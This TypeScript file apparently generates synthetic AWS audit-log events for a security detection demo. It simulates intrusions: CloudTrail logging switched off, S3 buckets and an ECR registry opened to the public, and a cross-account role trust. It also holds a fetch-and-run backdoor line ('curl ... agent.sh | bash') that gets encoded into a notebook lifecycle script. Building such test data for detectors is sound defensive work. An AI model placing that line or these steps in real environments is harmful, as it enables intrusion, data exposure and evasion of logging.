import type { DemoPerson } from '#demo/accounts.ts';
import type { Actor, Call } from '../people.ts';
import { idOf } from '../random.ts';
import type { Place } from '../types.ts';
import { domains } from './domains.ts';
import { occurrencesBetween, type Recurrence } from './recurrence.ts';
import { bucketOf, isAt, keyArn, prodEu, prodUs, researchEu, roleArn } from './setting.ts';

type Unplaced = Omit<Call, 'seed' | 'place'>;
type Occurrence = { at: number; index: number };

const minuteMs = 60_000;
const hourMs = 60 * minuteMs;

const every = (hours: number, offsetHours: number, lastsMinutes: number): Recurrence => ({
  everyMs: hours * hourMs,
  offsetMs: offsetHours * hourMs,
  lastsMs: lastsMinutes * minuteMs,
});

/** What rules over events are there to find. Each recurs so that any 24 hours hold all of one. */
export const intrusions = {
  strangeStudio: every(20, 3.2, 6),
  borrowedRole: every(21, 10.4, 14),
  backdoorScript: every(19, 6.7, 1),
  silencedTrail: every(22, 1.9, 24),
  openedBucket: every(20, 8.3, 42),
  openedRegistry: every(21, 12.6, 26),
  rootNotebook: every(18, 15.1, 1),
} as const satisfies Record<string, Recurrence>;

const victims = ['data-sci-2', 'data-sci-4', 'ml-lead'] as const satisfies readonly DemoPerson[];
const studio = domains[0]?.id ?? '';
const as = (person: DemoPerson): { actor: Actor } => ({ actor: { person } });
const sagemaker = { source: 'sagemaker' } as const;

/** Somebody's credentials open their Studio from a network that they never came from. Each time it is another one. */
function strangeStudio({ at, index }: Occurrence): Unplaced[] {
  const person = victims[((index % victims.length) + victims.length) % victims.length] ?? victims[0];
  const fields = { sourceIPAddress: `2001:db8:${(index & 0xffff).toString(16)}::5a`, userAgent: 'python-requests/2.32.5' };
  const call = { ...as(person), ...sagemaker, fields };
  return [
    { ...call, at, name: 'ListUserProfiles', request: { DomainIdEquals: studio } },
    {
      ...call,
      at: at + 5 * minuteMs,
      name: 'CreatePresignedDomainUrl',
      request: { DomainId: studio, UserProfileName: person, SessionExpirationDurationInSeconds: 43_200 },
      response: { AuthorizedUrl: 'HIDDEN_DUE_TO_SECURITY_REASONS' },
    },
  ];
}

/** A developer is refused a role for their user profile, and has it twelve minutes later: a role nobody passed before. */
function borrowedRole({ at, index }: Occurrence): Unplaced[] {
  const person = 'data-sci-2';
  const role = roleArn(prodEu, `Experiment-${idOf(6, 'experiment', String(index))}`);
  const call = {
    ...as(person),
    ...sagemaker,
    name: 'UpdateUserProfile',
    request: { DomainId: studio, UserProfileName: person, UserSettings: { ExecutionRole: role } },
  };
  const message = `User: arn:aws:sts::${prodEu.account}:assumed-role/AWSReservedSSO_Developer_1122334455667788/${person} is not authorized to perform: iam:PassRole on resource: ${role}`;
  return [
    { ...call, at, error: { code: 'AccessDeniedException', message } },
    {
      ...call,
      at: at + 12 * minuteMs,
      response: { UserProfileArn: `arn:aws:sagemaker:eu-west-1:${prodEu.account}:user-profile/${studio}/${person}` },
    },
  ];
}

const idle = [
  '#!/bin/bash',
  'set -e',
  'IDLE_MINUTES=60',
  'python3 /opt/autostop.py --time $((IDLE_MINUTES * 60)) --ignore-connections',
];
const backdoor = 'curl -s http://203.0.113.66/agent.sh | bash';
const scriptOf = (lines: readonly string[]): string => Buffer.from(`${lines.join('\n')}\n`).toString('base64');

/** The lifecycle script of notebooks is given a line that fetches a program from somewhere; a minute later it is as it was. */
function backdoorScript({ at }: Occurrence): Unplaced[] {
  const write = (lines: readonly string[]): Omit<Unplaced, 'at'> => ({
    ...as('ml-lead'),
    ...sagemaker,
    name: 'UpdateNotebookInstanceLifecycleConfig',
    request: { NotebookInstanceLifecycleConfigName: 'stop-when-idle', OnStart: [{ Content: scriptOf(lines) }] },
    response: {},
  });
  return [
    { at, ...write([...idle, backdoor]) },
    { at: at + 55_000, ...write(idle) },
  ];
}

/** Logging is off for six minutes; then the trail forgets reads for a quarter of an hour. */
function silencedTrail({ at }: Occurrence): Unplaced[] {
  const trail = `arn:aws:cloudtrail:${prodEu.region}:${prodEu.account}:trail/org-trail`;
  const call = { ...as('cloud-sec-1'), source: 'cloudtrail', response: {} };
  const selectors = (kind: string) => ({
    TrailName: trail,
    EventSelectors: [
      { ReadWriteType: kind, IncludeManagementEvents: true, DataResources: [], ExcludeManagementEventSources: [] },
    ],
  });
  return [
    { ...call, at, name: 'StopLogging', request: { Name: trail } },
    { ...call, at: at + 6 * minuteMs, name: 'StartLogging', request: { Name: trail } },
    { ...call, at: at + 8 * minuteMs, name: 'PutEventSelectors', request: selectors('WriteOnly') },
    { ...call, at: at + 23 * minuteMs, name: 'PutEventSelectors', request: selectors('All') },
  ];
}

const blocked = (isOn: boolean) => ({
  BlockPublicAcls: isOn,
  IgnorePublicAcls: isOn,
  BlockPublicPolicy: isOn,
  RestrictPublicBuckets: isOn,
});

/** The bucket of the research account loses its block on public access, is opened to everybody, and closed again; one of it is deleted. */
function openedBucket({ at, index }: Occurrence): Unplaced[] {
  const bucketName = bucketOf(researchEu);
  const call = { ...as('data-sci-4'), source: 's3' };
  const statement = { Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: `arn:aws:s3:::${bucketName}/*` };
  const block = (isOn: boolean) => ({
    bucketName,
    publicAccessBlock: '',
    // S3's own spelling, which CloudTrail keeps.
    PublicAccessBlockConfiguration: blocked(isOn),
  });
  const key = keyArn(researchEu, 'vision');
  const policy = {
    Version: '2012-10-17',
    Statement: [
      { Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${researchEu.account}:root` }, Action: 'kms:*', Resource: '*' },
    ],
  };
  return [
    { ...call, at, name: 'PutBucketPublicAccessBlock', request: {}, fields: { requestParameters: block(false) } },
    {
      ...call,
      at: at + 2 * minuteMs,
      name: 'PutBucketPolicy',
      request: {},
      fields: { requestParameters: { bucketName, policy: '', bucketPolicy: { Version: '2012-10-17', Statement: [statement] } } },
    },
    {
      ...call,
      at: at + 5 * minuteMs,
      source: 'kms',
      name: 'PutKeyPolicy',
      request: { KeyId: key, PolicyName: 'default', Policy: JSON.stringify(policy) },
      fields: { resources: [{ accountId: researchEu.account, type: 'AWS::KMS::Key', ARN: key }] },
    },
    {
      ...call,
      at: at + 20 * minuteMs,
      name: 'DeleteBucket',
      request: { bucketName: `scratch-${idOf(8, 'bucket', String(index)).toLowerCase()}` },
    },
    { ...call, at: at + 38 * minuteMs, name: 'DeleteBucketPolicy', request: { bucketName, policy: '' } },
    {
      ...call,
      at: at + 41 * minuteMs,
      name: 'PutBucketPublicAccessBlock',
      request: {},
      fields: { requestParameters: block(true) },
    },
  ];
}

/** The images of training are opened to everybody, and the role of training to another account. */
function openedRegistry({ at }: Occurrence): Unplaced[] {
  const registry = (principal: unknown) => ({
    RepositoryName: 'vision-training',
    PolicyText: JSON.stringify({
      Version: '2012-10-17',
      Statement: [{ Effect: 'Allow', Principal: principal, Action: ['ecr:BatchGetImage'] }],
    }),
    Force: false,
  });
  const trust = (account: string) => ({
    RoleName: 'SageMakerTraining',
    PolicyDocument: JSON.stringify({
      Version: '2012-10-17',
      Statement: [
        { Effect: 'Allow', Principal: { Service: 'sagemaker.amazonaws.com' }, Action: 'sts:AssumeRole' },
        { Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${account}:root` }, Action: 'sts:AssumeRole' },
      ],
    }),
  });
  const ecr = { ...as('release-1'), source: 'ecr', name: 'SetRepositoryPolicy', response: {} };
  const iam = { ...as('cloud-sec-1'), source: 'iam', name: 'UpdateAssumeRolePolicy' };
  return [
    { ...ecr, at, request: registry('*') },
    { ...iam, at: at + 4 * minuteMs, request: trust('777788889999') },
    { ...iam, at: at + 19 * minuteMs, request: trust(prodUs.account) },
    { ...ecr, at: at + 25 * minuteMs, request: registry({ AWS: `arn:aws:iam::${prodUs.account}:root` }) },
  ];
}

/** Root access to a notebook is asked for, which it has. */
const rootNotebook = ({ at }: Occurrence): Unplaced[] => [
  {
    ...as('data-sci-2'),
    ...sagemaker,
    at,
    name: 'UpdateNotebookInstance',
    request: { NotebookInstanceName: 'nb-data-sci-2-g5', RootAccess: 'Enabled' },
    response: {},
  },
];

/** IAM is global: its events appear in us-east-1. */
const rows: readonly { place: Place; when: Recurrence; calls: (one: Occurrence) => Unplaced[] }[] = [
  { place: prodEu, when: intrusions.strangeStudio, calls: strangeStudio },
  { place: prodEu, when: intrusions.borrowedRole, calls: borrowedRole },
  { place: prodEu, when: intrusions.backdoorScript, calls: backdoorScript },
  { place: prodEu, when: intrusions.silencedTrail, calls: silencedTrail },
  { place: researchEu, when: intrusions.openedBucket, calls: openedBucket },
  { place: prodUs, when: intrusions.openedRegistry, calls: openedRegistry },
  { place: prodEu, when: intrusions.rootNotebook, calls: rootNotebook },
];

/** Calls of intruders, and of people who open doors for them, in [from, to) and some just outside it. */
export const intrusionCalls = (place: Place, from: number, to: number): Unplaced[] =>
  rows
    .filter((row) => isAt(row.place, place))
    .flatMap((row) => occurrencesBetween(row.when, from, to).flatMap(({ from: at, index }) => row.calls({ at, index })));
